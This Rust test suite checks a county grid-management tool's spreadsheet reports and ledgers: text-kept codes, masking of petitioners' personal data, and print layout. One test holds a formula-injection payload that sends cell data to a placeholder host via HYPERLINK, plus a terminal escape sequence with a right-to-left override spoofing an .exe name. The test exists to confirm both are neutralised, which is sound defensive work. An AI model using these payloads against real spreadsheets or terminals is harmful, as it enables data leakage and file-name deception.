//! Reports and ledgers as the county opens them: XLSX sheets with Chinese headers and codes kept as text,
//! CSV with a BOM, personal data masked or absent, and hostile text (formulas, escapes) neutralised.

use std::io::Read;
use std::path::Path;

use assert_cmd::Command;
use predicates::prelude::*;

const NOW: &str = "2026-11-28T09:41:00+08:00";

fn wangge(db: &Path) -> Command {
    let mut c = Command::cargo_bin("wangge").unwrap();
    c.env("WANGGE_NOW", NOW)
        .env_remove("WANGGE_DB")
        .env_remove("WANGGE_LANG")
        .arg("--db")
        .arg(db);
    c
}

/// Every XML part of a workbook, by name.
fn parts(path: &Path) -> Vec<(String, String)> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut text = String::new();
            f.read_to_string(&mut text).unwrap();
            (f.name().unwrap().to_string(), text)
        })
        .collect()
}

fn all_text(path: &Path) -> String {
    parts(path).into_iter().map(|(_, t)| t).collect()
}

/// The sheet names of a workbook, in order.
fn sheet_names(path: &Path) -> Vec<String> {
    let (_, book) = parts(path)
        .into_iter()
        .find(|(n, _)| n == "xl/workbook.xml")
        .unwrap();
    book.split("<sheet name=\"")
        .skip(1)
        .map(|s| s[..s.find('"').unwrap()].to_owned())
        .collect()
}

fn demo(dir: &Path, township: &str) -> std::path::PathBuf {
    let db = dir.join("d.db");
    wangge(&db)
        .args(["demo", "--records", "300", "--township", township])
        .assert()
        .success();
    db
}

#[test]
fn the_xlsx_report_has_a_cover_and_a_sheet_per_family() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727101000");
    let file = dir.path().join("报表.xlsx");
    wangge(&db)
        .args([
            "report",
            "--from",
            "2026-11-01",
            "--to",
            "2026-11-30",
            "--out",
        ])
        .arg(&file)
        .assert()
        .success()
        .stderr(predicate::str::contains("已写入"));
    assert_eq!(
        sheet_names(&file),
        [
            "封面",
            "比率",
            "分乡镇",
            "安全检查",
            "隐患",
            "巡查发现",
            "信访",
            "统计期 2026-11-01 ~ 2026-11-30"
        ]
    );
    let text = all_text(&file);
    for expected in [
        "数据截至",
        "2026-11-28 09:41",
        "2026-11-01 ~ 2026-11-30",
        "销号隐患数 / 发现隐患总数",
        "巡查里程（公里）",
        "按移交部门",
        "按问题类别",
        "群众参评率",
    ] {
        assert!(text.contains(expected), "{expected} missing");
    }
    // Finding kinds are listed with their Q-code.
    assert!(text.contains("Q") && text.contains("乱"), "Q-codes");
    // The township code is a string cell, never a number Excel would show as 6.10727E+11.
    assert!(
        !text.contains("<v>610727101000</v>"),
        "a code written as a number"
    );
    assert!(text.contains("610727101000"));
    assert!(!text.contains("<f>"), "no formulas");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    // An XLSX goes to a file, never to the terminal.
    wangge(&db)
        .args(["report", "--format", "xlsx"])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("--out"));
}

#[test]
fn the_csv_report_lists_breakdowns_with_denominators() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727101000");
    let out = wangge(&db)
        .args(["report", "--format", "csv"])
        .output()
        .unwrap();
    assert!(out.stdout.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("指标,数值（%）,分子,分母"), "{text}");
    assert!(text.contains("按移交部门") && text.contains("按渠道"));
}

/// Petitioners' names and addresses, and every ID number and phone on file (places' owners included).
fn personal(db: &Path) -> (Vec<String>, Vec<String>) {
    let conn = rusqlite::Connection::open(db).unwrap();
    let column = |sql: &str| -> Vec<String> {
        let mut st = conn.prepare(sql).unwrap();
        st.query_map([], |r| r.get::<_, String>(0))
            .unwrap()
            .map(Result::unwrap)
            .collect()
    };
    let people = column(
        "SELECT petitioner_name FROM petitions UNION SELECT address FROM petitions WHERE address <> ''",
    );
    let numbers = column(
        "SELECT id_number FROM petitions WHERE id_number <> '' UNION SELECT phone FROM petitions
         WHERE phone <> '' UNION SELECT owner_phone FROM places WHERE owner_phone <> ''",
    );
    (people, numbers)
}

#[test]
fn ledgers_mask_personal_data_and_reports_hold_none() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727001000");
    let (people, numbers) = personal(&db);
    assert!(
        people.len() > 50 && numbers.len() > 50,
        "the demo has petitioners"
    );
    let report = dir.path().join("r.xlsx");
    wangge(&db)
        .args(["report", "--out"])
        .arg(&report)
        .assert()
        .success();
    let mut files = vec![(report.clone(), all_text(&report))];
    for family in ["hazards", "inspections", "findings", "petitions"] {
        for ext in ["xlsx", "csv"] {
            let file = dir.path().join(format!("{family}.{ext}"));
            wangge(&db)
                .args(["ledger", "--family", family, "--out"])
                .arg(&file)
                .assert()
                .success()
                .stderr(predicate::str::contains("条"));
            let text = if ext == "xlsx" {
                all_text(&file)
            } else {
                String::from_utf8(std::fs::read(&file).unwrap()).unwrap()
            };
            files.push((file, text));
        }
    }
    for (file, text) in &files {
        // Names are checked where petitioners appear (the same name may belong to a household elsewhere).
        let petitioners_here =
            file.ends_with("r.xlsx") || file.to_string_lossy().contains("petitions");
        let names = people.iter().filter(|_| petitioners_here);
        for secret in numbers.iter().chain(names) {
            assert!(
                !text.contains(secret.as_str()),
                "{} shows {secret}",
                file.display()
            );
        }
    }
    let petitions = &files
        .iter()
        .find(|(f, _)| f.ends_with("petitions.csv"))
        .unwrap()
        .1;
    assert!(petitions.starts_with('\u{feff}'));
    assert!(petitions.contains("信访人姓名,证件号,电话"));
    assert!(petitions.contains("**"), "masked, not dropped");
}

#[test]
fn ledgers_filter_by_date_and_region() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727101000");
    let rows = |args: &[&str]| -> Vec<String> {
        let file = dir.path().join("h.csv");
        let _ = std::fs::remove_file(&file);
        wangge(&db)
            .args(["ledger", "--family", "hazards", "--out"])
            .arg(&file)
            .args(args)
            .assert()
            .success();
        let text = String::from_utf8(std::fs::read(&file).unwrap()).unwrap();
        text.lines().skip(1).map(str::to_owned).collect()
    };
    let all = rows(&[]);
    let conn = rusqlite::Connection::open(&db).unwrap();
    let live: i64 = conn
        .query_row("SELECT count(*) FROM hazards WHERE deleted = 0", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(all.len() as i64, live);
    let november = rows(&["--from", "2026-11-01", "--to", "2026-11-30"]);
    assert!(!november.is_empty() && november.len() < all.len());
    assert!(november.iter().all(|l| l.contains(",2026-11-")));
    let village: String = conn
        .query_row(
            "SELECT substr(region_code, 1, 12) FROM hazards WHERE region_code NOT LIKE '%000' LIMIT 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    let one_village = rows(&["--region", &village]);
    assert!(!one_village.is_empty() && one_village.len() < all.len());
    assert!(one_village.iter().all(|l| l.contains(&village)));
    // A malformed region (a usage error), an unknown one, and a file type that is not a spreadsheet are refused.
    for (args, code, says) in [
        (&["--region", "61072710"][..], 2, "区划"),
        (&["--region", "610727999000"][..], 1, "610727999000"),
    ] {
        wangge(&db)
            .args(["ledger", "--family", "hazards", "--out"])
            .arg(dir.path().join("x.csv"))
            .args(args)
            .assert()
            .code(code)
            .stderr(predicate::str::contains(says));
    }
    wangge(&db)
        .args(["ledger", "--family", "hazards", "--out"])
        .arg(dir.path().join("x.txt"))
        .assert()
        .code(1)
        .stderr(predicate::str::contains(".xlsx"));
    assert!(!dir.path().join("x.csv").exists() && !dir.path().join("x.txt").exists());
}

#[test]
fn hostile_text_is_kept_as_text_in_every_cell() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727101000");
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")";
    let escape = "\u{1b}]8;;http://x.example\u{7}漏水\u{202e}txt.exe";
    let conn = rusqlite::Connection::open(&db).unwrap();
    // Hand-edited rows stand for text sent in a bundle: stored as sent, shown neutralised.
    conn.execute_batch(&format!(
        "UPDATE hazards SET description = '{}' WHERE rowid = (SELECT min(rowid) FROM hazards);
         UPDATE hazards SET description = '{escape}' WHERE rowid = (SELECT max(rowid) FROM hazards);
         UPDATE hazards SET responsible = '+86 13800000000' WHERE rowid = (SELECT max(rowid) FROM hazards);",
        formula.replace('\'', "''")
    ))
    .unwrap();
    drop(conn);
    let csv = dir.path().join("h.csv");
    let xlsx = dir.path().join("h.xlsx");
    for f in [&csv, &xlsx] {
        wangge(&db)
            .args(["ledger", "--family", "hazards", "--out"])
            .arg(f)
            .assert()
            .success();
    }
    let text = String::from_utf8(std::fs::read(&csv).unwrap()).unwrap();
    assert!(text.contains("'=HYPERLINK"), "formula guarded in CSV");
    assert!(text.contains("'+"), "a leading + is guarded too");
    assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && !text.contains('\u{7}'));
    assert!(text.contains("?]8;;http://x.example?漏水"));
    let parts = parts(&xlsx);
    let all: String = parts.iter().map(|(_, t)| t.as_str()).collect();
    assert!(!all.contains("<f>"), "no formula cell");
    assert!(all.contains("=HYPERLINK"), "kept as text");
    assert!(all.contains("quotePrefix=\"1\""), "Excel's own text guard");
    assert!(!all.contains('\u{1b}') && !all.contains('\u{202e}'));
}

/// The worksheets of a workbook, in order.
fn sheets(path: &Path) -> Vec<String> {
    let mut all: Vec<(String, String)> = parts(path)
        .into_iter()
        .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
        .collect();
    all.sort_by_key(|(n, _)| {
        n.trim_start_matches("xl/worksheets/sheet")
            .trim_end_matches(".xml")
            .parse::<u32>()
            .unwrap()
    });
    all.into_iter().map(|(_, x)| x).collect()
}

/// Every sheet prints on A4 landscape, one page wide, its header row on every page (print titles), frozen and
/// filtered, the region, period and time of the figures at the top of each page and the page numbers below.
fn assert_set_up_for_paper(path: &Path, head: &str) {
    let sheets = sheets(path);
    assert!(!sheets.is_empty());
    let book = all_text(path);
    for (i, x) in sheets.iter().enumerate() {
        for want in [
            r#"<pageSetUpPr fitToPage="1"/>"#,
            r#"paperSize="9""#,
            r#"orientation="landscape""#,
            r#"<pane ySplit="1""#,
            "<autoFilter ref=\"A1:",
            "&amp;P",
            "&amp;N",
            head,
        ] {
            assert!(x.contains(want), "{} sheet {i}: no {want}", path.display());
        }
        assert!(
            book.contains(&format!(
                "<definedName name=\"_xlnm.Print_Titles\" localSheetId=\"{i}\">"
            )),
            "{} sheet {i}: no print titles",
            path.display()
        );
    }
}

#[test]
fn ledgers_and_the_report_are_set_up_for_paper() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727001000");
    let ledger = dir.path().join("隐患台账.xlsx");
    wangge(&db)
        .args(["ledger", "--family", "hazards", "--out"])
        .arg(&ledger)
        .assert()
        .success();
    assert_set_up_for_paper(&ledger, "截至 2026-11-28 09:41");
    let sheet = &sheets(&ledger)[0];
    // Not one page tall: a ledger runs on.
    assert!(sheet.contains(r#"fitToHeight="0""#), "{}", &sheet[..600]);
    // Row 2: the short id (12 hex digits) first, days as date cells shown yyyy-mm-dd, the whole id last.
    let row = sheet
        .split("<row r=\"2\"")
        .nth(1)
        .and_then(|r| r.split("</row>").next())
        .unwrap();
    let first = row
        .split("<t>")
        .nth(1)
        .unwrap()
        .split("</t>")
        .next()
        .unwrap();
    assert_eq!(first.len(), 12, "{row}");
    assert!(first.chars().all(|c| c.is_ascii_hexdigit()), "{row}");
    let last = row
        .rsplit("<t>")
        .next()
        .unwrap()
        .split("</t>")
        .next()
        .unwrap();
    assert!(last.len() == 36 && last.ends_with(first), "{row}");
    // 发现日期 is column L: a number (no t="…") in the yyyy-mm-dd style.
    let found = row.split("<c r=\"L2\"").nth(1).unwrap();
    let found = &found[..found.find("</c>").unwrap()];
    assert!(!found.contains("t=\"") && found.contains("<v>"), "{found}");
    let styles = all_text(&ledger);
    assert!(styles.contains(r#"formatCode="yyyy-mm-dd""#));

    let report = dir.path().join("报表.xlsx");
    wangge(&db)
        .args([
            "report",
            "--from",
            "2026-01-01",
            "--to",
            "2026-11-30",
            "--out",
        ])
        .arg(&report)
        .assert()
        .success();
    assert_set_up_for_paper(&report, "2026-01-01 ~ 2026-11-30");
    // The cover and the rates each on one page.
    let sheets = sheets(&report);
    // (fitToHeight is left out when it is 1, its default.)
    for cover in &sheets[..2] {
        assert!(!cover.contains("fitToHeight"), "{}", &cover[..600]);
    }
    assert!(sheets[2].contains(r#"fitToHeight="0""#));
    // The period sheet's first column holds the whole period ("2026-01-01 ~ 2026-11-30", 23 characters).
    let period = sheets.last().unwrap();
    let width: f64 = period
        .split(r#"<col min="1" max="1" width=""#)
        .nth(1)
        .and_then(|w| w.split('"').next())
        .and_then(|w| w.parse().ok())
        .unwrap();
    assert!(width >= 23.0, "{width}");
}

/// The number of pages of a PDF file.
fn pdf_pages(pdf: &Path) -> usize {
    let bytes = std::fs::read(pdf).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    text.matches("/Type/Page").count() + text.matches("/Type /Page").count()
        - text.matches("/Type/Pages").count()
        - text.matches("/Type /Pages").count()
}

/// Where LibreOffice is installed (standing in for a county office's WPS or Excel), the ledger and the report
/// print landscape with every column on the page: a few pages, not one per handful of columns.
#[test]
fn libreoffice_prints_the_ledger_and_report_on_few_pages() {
    let Some(soffice) = ["soffice", "libreoffice"].into_iter().find(|p| {
        std::process::Command::new(p)
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success())
    }) else {
        eprintln!("skipped: LibreOffice (soffice) is not installed");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path(), "610727001000");
    let ledger = dir.path().join("hazards.xlsx");
    let report = dir.path().join("report.xlsx");
    wangge(&db)
        .args(["ledger", "--family", "hazards", "--out"])
        .arg(&ledger)
        .assert()
        .success();
    wangge(&db)
        .args(["report", "--out"])
        .arg(&report)
        .assert()
        .success();
    let profile = dir.path().join("lo-profile");
    let status = std::process::Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--convert-to", "pdf", "--outdir"])
        .arg(dir.path())
        .arg(&ledger)
        .arg(&report)
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    let rows = sheets(&ledger)[0].matches("<row ").count();
    let pages = pdf_pages(&dir.path().join("hazards.pdf"));
    // About 30 rows a landscape page: every column on it, the header repeated.
    assert!(
        pages >= 1 && pages <= rows / 15 + 1,
        "{rows} rows on {pages} pages"
    );
    let sheets_n = sheets(&report).len();
    let pages = pdf_pages(&dir.path().join("report.pdf"));
    assert!(
        pages >= sheets_n && pages <= sheets_n + 2,
        "{sheets_n} sheets on {pages} pages"
    );
}
